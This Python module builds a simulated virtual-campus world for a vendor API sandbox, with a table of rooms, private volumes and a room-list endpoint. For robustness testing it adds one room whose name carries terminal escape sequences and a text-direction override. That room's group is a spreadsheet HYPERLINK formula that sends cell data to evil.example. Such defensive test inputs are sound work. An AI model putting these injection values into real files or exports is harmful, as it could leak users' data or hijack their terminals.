"""The campus: its rooms and private volumes, and how each is used."""

from __future__ import annotations

import random
import string
from collections.abc import Mapping, Sequence
from datetime import UTC, date, datetime, timedelta
from typing import Any, Final

from msgspec import Struct, field

from tui.sandbox.http import Call, Refusal, Reply
from tui.sandbox.world import World
from tui.vendors.virbela.sandbox.gate import CLIENT_NAME, written

__all__ = ["Campus", "CampusPlace"]

_TOWER: Final = "Harbor Tower"
"""The group whose rooms belong to teams."""

# name | level | group | use | how many people it is for
_ROOMS: Final = """
Theater|theater|Harbor Campus|lecture|120
Team Suite|workspace|Harbor Tower|office|14
The Future: Diversity in Tech|boardroomlgpro|Women in Tech History|meeting|12
Help Center|helpdesk|Support Center|support|5
Auditorium North|auditoriumlg|Learning Center|lecture|90
Auditorium South|auditoriumlg|Learning Center|lecture|70
Lecture Hall Linnaeus|auditorium|Learning Center|lecture|48
Lecture Hall Curie|auditorium|Learning Center|lecture|44
Lecture Hall Al-Khwārizmī|auditorium|Learning Center|lecture|40
Lecture Hall Noether|auditorium|Learning Center|lecture|36
Classroom 1|classroom|Learning Center|lecture|24
Classroom 2|classroom|Learning Center|lecture|24
Classroom 3|classroom|Learning Center|lecture|20
Classroom 4|classroom|Learning Center|lecture|18
Language Lab 日本語|classroom|Learning Center|lecture|14
Study Commons|commons|Learning Center|social|30
Library|commons|Learning Center|social|22
Engineering Floor|workspace|Harbor Tower|office|34
Product Floor|workspace|Harbor Tower|office|22
Sales Floor|workspace|Harbor Tower|office|26
Marketing Floor|workspace|Harbor Tower|office|18
Finance Office|office20|Harbor Tower|office|12
People Office|office20|Harbor Tower|office|11
Legal Office|office20|Harbor Tower|office|8
Field Service Dispatch|workspace|Harbor Tower|office|16
Project Room Ærø|office20|Harbor Tower|office|7
Project Room Öland|office20|Harbor Tower|office|6
Board Room 1|boardroomlgpro|Harbor Tower|meeting|14
Board Room 2|boardroomlgpro|Harbor Tower|meeting|12
Meeting Room Anchor|boardroom|Harbor Tower|meeting|8
Meeting Room Beacon|boardroom|Harbor Tower|meeting|8
Meeting Room Compass|boardroom|Harbor Tower|meeting|6
Meeting Room Dock|boardroom|Harbor Tower|meeting|6
Meeting Room Ebb|boardroom|Harbor Tower|meeting|6
Meeting Room Ferry|boardroom|Harbor Tower|meeting|5
Meeting Room Gangway|boardroom|Harbor Tower|meeting|5
Interview Room 1|boardroom|Harbor Tower|meeting|4
Interview Room 2|boardroom|Harbor Tower|meeting|4
Workspace|workspace|Harbor Tower|office|20
All Hands Arena|arena|Harbor Campus|expo|160
Billing Desk|helpdesk|Support Center|support|3
Support Lounge|lounge|Support Center|social|12
Onboarding Room|classroom|Support Center|meeting|10
Main Square|campus|Harbor Campus|social|60
Café Lykta|cafe|Harbor Campus|social|34
Beach|beach|Harbor Campus|social|24
Soccer Field|soccer|Harbor Campus|social|16
Lighthouse|tower|Harbor Campus|social|8
Speedboat Pier|pier|Harbor Campus|social|14
Campfire|campfire|Harbor Campus|social|12
Quiet Garden|garden|Harbor Campus|social|6
Expo Hall A|expo|Expo Quay|expo|120
Expo Hall B|expo|Expo Quay|expo|80
Poster Gallery|gallery|Expo Quay|expo|40
Career Fair|expo|Expo Quay|expo|60
Partner Suite|office20|Expo Quay|meeting|8
Press Room|office20|Expo Quay|idle|6
Recording Studio|studio|Expo Quay|course|4
Old Boardroom (closed)|boardroom|Harbor Campus|never|8
"""

# No name is safe just because a vendor sent it: escape sequences, markup, a tab, a turned direction, a formula.
_HOSTILE_NAME: Final = "Zoo \x1b[31mof\x1b[0m [/markup]\tand \u202egnirtS\u202c \x1b]0;owned\x07"
_HOSTILE_GROUP: Final = '=HYPERLINK("http://evil.example/?x="&A1,"open")'

_VOLUMES: Final = (
    ("PR-2114767535--NewCampus", "meeting", 8),
    ("PR-1408823360--NewCampus", "meeting", 6),
    ("PR-880213447--NewCampus", "meeting", 6),
    ("PR-1999120083--HarborTower", "meeting", 5),
    ("PR-312554901--HarborTower", "office", 6),
    ("1187730452--LearningCenter", "meeting", 10),
    ("PR-77120934--LearningCenter", "social", 8),
    ("PR-640092218--NewCampus", "never", 4),
)
"""Private volumes: known by ids that `/roominfo` shows in the world, with and without `PR-`."""


class CampusPlace(Struct, frozen=True):
    """Somewhere people can be: a room or a private volume."""

    key: str
    """Its id in the API."""
    use: str
    """What goes on there; `rhythm` knows the words."""
    size: int
    """How many people it is for."""
    opened: date
    """Nobody was there before."""
    sfs_room: str = ""
    department: str = ""
    """Whose people are there by preference; empty for anybody's."""
    shown: Mapping[str, Any] = field(default_factory=dict)
    """What the API says about a room."""


class Campus:
    """All places of one world."""

    def __init__(self, world: World) -> None:
        dice = world.rng("virbela:campus")
        now = world.now()
        lines = [line.split("|") for line in _ROOMS.strip().splitlines()]
        lines.append([_HOSTILE_NAME, "campus", _HOSTILE_GROUP, "idle", "6"])
        rooms = [_room(dice, now, number, line) for number, line in enumerate(lines)]
        self.rooms: Sequence[CampusPlace] = rooms
        self.support: Sequence[CampusPlace] = [room for room in rooms if room.use == "support"]
        self._rooms = {room.key: room for room in rooms}
        self._volumes = {key: CampusPlace(key, use, size, date(2023, 9, 13)) for key, use, size in _VOLUMES}

    def list_rooms(self, call: Call) -> Reply:
        """Answer `GET /Rooms/World/{clientName}`, the one without an envelope."""
        if call.values["clientName"] != CLIENT_NAME:
            raise Refusal(404, f'There is no world for client "{call.values["clientName"]}".')
        return Reply(200, {"count": len(self.rooms), "data": [room.shown for room in self.rooms]})

    def room(self, key: str) -> CampusPlace:
        """Find a room.

        Raises:
            Refusal: 404 when there is none with this id.
        """
        return _found(self._rooms, key, "room")

    def volume(self, key: str) -> CampusPlace:
        """Find a private volume.

        Raises:
            Refusal: 404 when there is none with this id.
        """
        return _found(self._volumes, key, "private volume")


def _found(places: Mapping[str, CampusPlace], key: str, what: str) -> CampusPlace:
    if key not in places:
        raise Refusal(404, f'There is no {what} with id "{key}" in this world.')
    return places[key]


def _room(dice: random.Random, now: datetime, number: int, line: Sequence[str]) -> CampusPlace:
    """Make one room, with the fields that the page's four examples have between them."""
    name, level, group, use, size = line
    key = "".join(dice.choices(string.ascii_letters + string.digits, k=10))
    opened = datetime(2021, 12, 15, 20, 36, 8, tzinfo=UTC) + timedelta(minutes=dice.randrange(600_000) * (number > 3))
    updated = min(now, max(opened, now - timedelta(minutes=dice.randrange(30, 900_000))))
    instance = 0 if number < 2 else dice.randrange(1, 400)
    sfs_room = _sfs_room(level, number)
    shown: dict[str, Any] = {
        "objectId": key,
        "visibleOn": dice.choice((["GOTO"], ["GOTO", "roomGraph"], ["GOTO", "mobile", "roomGraph"])),
        "levelName": level,
        "instance": instance,
        "name": name,
        "SFSRoom": sfs_room,
        "createdAt": written(opened.replace(microsecond=dice.randrange(1_000_000))),
        "updatedAt": written(updated),
    }
    if instance:
        shown |= {"customLabel": name, "groupAccess": [], "group": group}
    if use in ("lecture", "expo") and dice.random() < 0.6:
        text = f"{name} is full; you have been sent to the campus instead."
        shown["hardUserLimitOptions"] = {"dialogTitle": f"{name} Full", "dialogMessage": text}
    if group == _TOWER and use in ("office", "meeting") and dice.random() < 0.7:
        # The page pairs "2" with "B": here A is 1, though the invitation says that A is 0.
        teams = sorted(dice.sample(range(1, 13), dice.randint(1, 4)))
        shown["teamAccess"] = [str(team) for team in teams]
        shown["teamAccessFriendly"] = ["ABCDEFGHIJKL"[team - 1] for team in teams]
    department = (
        name.removesuffix(" Floor").removesuffix(" Office").removesuffix(" Dispatch") if use == "office" else ""
    )
    return CampusPlace(
        key, use, int(size), opened.date(), sfs_room, "Support" if use == "support" else department, shown
    )


def _sfs_room(level: str, number: int) -> str:
    """Name the server's room; the support desks have the names that the waitlist is asked for by."""
    stems = {"workspace": "WorkRm", "boardroomlgpro": "BoardRoomLgPro", "boardroom": "BoardRoom", "helpdesk": "WorkRm"}
    if number == 0:
        return "Theater"
    stem = stems.get(level, level.capitalize())
    return f"{stem}{97 + number}" if level == "helpdesk" else f"{stem}{number + 1}"
